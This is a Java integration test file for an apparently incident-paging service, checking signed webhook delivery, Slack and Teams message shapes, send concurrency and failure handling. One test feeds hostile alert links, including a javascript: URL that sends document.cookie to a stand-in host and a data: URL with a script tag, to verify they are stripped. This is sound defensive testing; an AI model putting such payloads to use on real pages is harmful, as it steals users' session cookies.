package io.tocsin.notification.page;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.tocsin.events.ContactMethod;
import io.tocsin.events.Envelope;
import io.tocsin.events.Link;
import io.tocsin.events.NotificationRequested;
import io.tocsin.events.Priority;
import io.tocsin.events.Topics;
import io.tocsin.events.testing.EventSchemaAssert;
import io.tocsin.local.testing.TestDatabase;
import io.tocsin.local.testing.TestKafka;
import io.tocsin.notification.delivery.service.WebhookClient;
import io.tocsin.notification.support.NotificationTestResource;
import io.tocsin.notification.support.Pages;
import jakarta.inject.Inject;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Pages to webhook contact methods reach a real HTTP endpoint (the receiving side, as Slack or a customer's tool
 * would run it), signed, in the generic, Slack or Teams shape.
 */
@QuarkusTest
@QuarkusTestResource(NotificationTestResource.class)
class WebhookPageTest {

    /** What the receiver got, by path: {timestamp, signature, body}. */
    private static final Map<String, String[]> RECEIVED = new ConcurrentHashMap<>();
    private static HttpServer receiver;

    @Inject
    ObjectMapper mapper;

    @BeforeAll
    static void startReceiver() throws Exception {
        receiver = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        receiver.createContext("/", exchange -> {
            String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            RECEIVED.put(exchange.getRequestURI().getPath(), new String[] {
                    exchange.getRequestHeaders().getFirst("X-Tocsin-Timestamp"),
                    exchange.getRequestHeaders().getFirst("X-Tocsin-Signature"), body});
            int status = exchange.getRequestURI().getPath().startsWith("/gone") ? 410 : 200;
            exchange.sendResponseHeaders(status, -1);
            exchange.close();
        });
        receiver.start();
    }

    @AfterAll
    static void stopReceiver() {
        receiver.stop(0);
    }

    @Test
    void aGenericWebhookGetsSignedJson() throws Exception {
        String path = "/generic-" + UUID.randomUUID();
        UUID incident = page(path, ContactMethod.Format.GENERIC);
        String[] got = awaitReceived(path);
        assertEquals("v1=" + WebhookClient.sign(NotificationTestResource.webhookSecret(), got[0], got[2]), got[1]);
        assertTrue(Math.abs(Instant.now().getEpochSecond() - Long.parseLong(got[0])) < 60);
        JsonNode json = mapper.readTree(got[2]);
        assertEquals("page", json.get("type").asText());
        assertEquals(incident.toString(), json.get("incidentId").asText());
        assertEquals("[P1] checkout-api: error rate 45%", json.get("subject").asText());
        assertEquals("https://runbooks.example.test/checkout", json.at("/links/0/href").asText());
        assertTrue(json.get("acknowledgeUrl").asText().startsWith("http://127.0.0.1:8083/a/"));
        await().atMost(Duration.ofSeconds(10)).until(() -> TestDatabase.count(
                "select count(*) from delivery where incident_id = ? and state = 'SENT' and contact_kind = 'WEBHOOK'", incident) == 1);
    }

    @Test
    void slackAndTeamsGetTheirOwnShapes() throws Exception {
        String slack = "/slack-" + UUID.randomUUID();
        page(slack, ContactMethod.Format.SLACK);
        JsonNode message = mapper.readTree(awaitReceived(slack)[2]);
        assertEquals("[P1] checkout-api: error rate 45%", message.get("text").asText());
        assertEquals("Acknowledge", message.at("/blocks/1/elements/0/text/text").asText());

        String teams = "/teams-" + UUID.randomUUID();
        page(teams, ContactMethod.Format.TEAMS);
        JsonNode card = mapper.readTree(awaitReceived(teams)[2]);
        assertEquals("MessageCard", card.get("@type").asText());
        assertEquals("Resolve", card.at("/potentialAction/1/name").asText());
    }

    @Test
    void onlyWebLinksFromAlertsBecomeButtons() throws Exception {
        List<Link> hostile = List.of(new Link("javascript:fetch('https://evil.example.test/'+document.cookie)", "Runbook"),
                new Link("data:text/html,<script>alert(1)</script>", "Report"),
                new Link("https://grafana.example.test/d/42", "Dashboard"));
        String slack = "/slack-links-" + UUID.randomUUID();
        page(slack, ContactMethod.Format.SLACK, hostile);
        String message = awaitReceived(slack)[2];
        JsonNode buttons = mapper.readTree(message).at("/blocks/1/elements");
        assertEquals(3, buttons.size(), message);
        assertEquals("https://grafana.example.test/d/42", buttons.get(2).get("url").asText());
        assertFalse(message.contains("javascript:") || message.contains("data:text"), message);

        String teams = "/teams-links-" + UUID.randomUUID();
        page(teams, ContactMethod.Format.TEAMS, hostile);
        String card = awaitReceived(teams)[2];
        assertEquals(3, mapper.readTree(card).get("potentialAction").size(), card);
        assertFalse(card.contains("javascript:") || card.contains("data:text"), card);
    }

    /**
     * A finished send wakes the sender only when every sending slot was taken. The receiver here holds every request
     * until three times as many pages as there are slots are in the delivery outbox, so the wakes of their commits
     * found every slot taken: the rest can leave only on the wakes of finished sends. The recovery poll runs every
     * 10 s in tests, longer than the last await, so a page that waited for it fails the test.
     */
    @Test
    void morePagesThanSendingSlotsAllLeaveWithoutWaitingForThePoll() throws Exception {
        int slots = ConfigProvider.getConfig().getValue("tocsin.delivery.max-in-flight", Integer.class);
        long poll = ConfigProvider.getConfig().getValue("tocsin.delivery.poll-interval", Duration.class).toSeconds();
        int pages = 3 * slots;
        CountDownLatch allWaiting = new CountDownLatch(1);
        ExecutorService threads = Executors.newCachedThreadPool();
        HttpServer held = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        held.setExecutor(threads);
        held.createContext("/", exchange -> {
            exchange.getRequestBody().readAllBytes();
            try {
                allWaiting.await(8, TimeUnit.SECONDS);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        held.start();
        try {
            String base = "http://127.0.0.1:" + held.getAddress().getPort() + "/held-" + UUID.randomUUID() + "-";
            for (int i = 0; i < pages; i++) {
                publishWebhookPage(base + i);
            }
            await().atMost(Duration.ofSeconds(20)).until(() -> TestDatabase.count(
                    "select count(*) from delivery where recipient like ?", base + "%") == pages);
            assertEquals(0, TestDatabase.count(
                    "select count(*) from delivery where recipient like ? and state = 'SENT'", base + "%"));
            allWaiting.countDown();
            await().atMost(Duration.ofSeconds(poll - 2)).until(() -> TestDatabase.count(
                    "select count(*) from delivery where recipient like ? and state = 'SENT'", base + "%") == pages);
        } finally {
            held.stop(0);
            threads.shutdownNow();
        }
    }

    @Test
    void aWebhookThatAnswers410IsDead() throws Exception {
        String path = "/gone-" + UUID.randomUUID();
        UUID incident = page(path, ContactMethod.Format.GENERIC);
        List<org.apache.kafka.clients.consumer.ConsumerRecord<String, String>> failed = TestKafka.await(
                Topics.NOTIFICATION_EVENTS, r -> r.value().contains("NotificationFailed") && r.value().contains(incident.toString()),
                1, Duration.ofSeconds(20));
        assertEquals(1, failed.size());
        EventSchemaAssert.assertMatchesSchema(failed.get(0).value());
        // Only "delivery failed": the status would let whoever reads the delivery probe the endpoint.
        assertEquals(WebhookClient.FAILED, mapper.readTree(failed.get(0).value()).at("/data/reason").asText());
        assertEquals(1, TestDatabase.count("select count(*) from delivery where incident_id = ? and state = 'DEAD'", incident));
        // The webhook URL is a credential: not in the event, and not shown even to an admin.
        assertFalse(failed.get(0).value().contains(path), failed.get(0).value());
        String deliveries = io.restassured.RestAssured.given()
                .header("Authorization", io.tocsin.local.testing.TestTokens.bearer("root", "admin"))
                .queryParam("incident", incident.toString()).get("/api/v1/deliveries").then().statusCode(200)
                .extract().asString();
        assertTrue(deliveries.contains("\"channel\":\"WEBHOOK\"") && !deliveries.contains(path), deliveries);
    }

    private UUID page(String path, ContactMethod.Format format) throws Exception {
        return page(path, format, null);
    }

    private UUID page(String path, ContactMethod.Format format, List<Link> links) throws Exception {
        UUID incident = UUID.randomUUID();
        NotificationRequested email = Pages.page("unused@example.test", "en", Priority.P1, "checkout-api",
                "error rate 45%", Duration.ofMinutes(15), 1);
        if (links != null) {
            email = new NotificationRequested(email.recipient(), email.contact(), email.service(), email.priority(),
                    email.summary(), email.respondBy(), links, email.step(), email.loop(), email.reason());
        }
        NotificationRequested hook = new NotificationRequested(email.recipient(),
                new ContactMethod(ContactMethod.Kind.WEBHOOK, "http://127.0.0.1:" + receiver.getAddress().getPort() + path, format),
                email.service(), email.priority(), email.summary(), email.respondBy(), email.links(), email.step(),
                email.loop(), email.reason());
        Pages.publish(mapper, Envelope.of(hook, incident, Instant.now()));
        return incident;
    }

    private void publishWebhookPage(String url) throws Exception {
        NotificationRequested email = Pages.page("unused@example.test", "en", Priority.P1, "search", "p99 over SLO",
                Duration.ofMinutes(15), 1);
        NotificationRequested hook = new NotificationRequested(email.recipient(),
                new ContactMethod(ContactMethod.Kind.WEBHOOK, url, ContactMethod.Format.GENERIC), email.service(),
                email.priority(), email.summary(), email.respondBy(), email.links(), email.step(), email.loop(),
                email.reason());
        Pages.publish(mapper, Envelope.of(hook, UUID.randomUUID(), Instant.now()));
    }

    private static String[] awaitReceived(String path) {
        await().atMost(Duration.ofSeconds(20)).until(() -> RECEIVED.containsKey(path));
        return RECEIVED.get(path);
    }
}
